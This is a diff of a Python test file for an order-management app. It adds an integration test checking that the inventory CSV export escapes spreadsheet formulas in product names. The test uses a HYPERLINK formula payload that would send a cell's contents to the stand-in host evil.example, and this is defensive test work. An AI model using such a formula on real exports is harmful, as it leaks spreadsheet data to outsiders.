@@ -13,8 +13,11 @@ from fastapi.testclient import TestClient
 from orderhub.api.csv_out import safe_cell
 from orderhub.bootstrap import Container
 from orderhub.channels.native import NativeOrder
+from orderhub.domain.catalog import Product
 from orderhub.services.ingest import ingest_order
 from tests.conftest import native_order
+from tests.integration.dashboard_support import signed_in
+from tests.integration.inventory_helpers import add_locations, receive
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
 
@@ -51,3 +54,22 @@ def test_the_reconciliation_csv_neutralises_a_channels_formula(
     rows = list(csv.DictReader(io.StringIO(got.text)))
     assert [r["external_id"] for r in rows] == ["'" + FORMULA]
     assert rows[0]["difference"] == "-67.41"
+
+
+def test_the_dashboard_inventory_csv_neutralises_a_product_name(
+    client: TestClient, seeded: Container
+) -> None:
+    # Product names arrive from channels' catalogues (imports, syncs) as well as from staff.
+    with seeded.uow(actor="test") as uow:
+        uow.catalog.upsert(Product("SKU-9", FORMULA, 100))
+        uow.commit()
+    add_locations(seeded, ("east", 1))
+    receive(seeded, "SKU-9", "east", 3)
+    receive(seeded, "SKU-1", "east", 3)
+    signed_in(client, seeded)
+    got = client.get("/inventory.csv")
+    assert got.status_code == 200
+    assert got.headers["content-type"].startswith("text/csv")
+    rows = {row["sku"]: row for row in csv.DictReader(io.StringIO(got.text))}
+    assert rows["SKU-9"]["name"] == "'" + FORMULA
+    assert rows["SKU-1"]["name"] == "One"
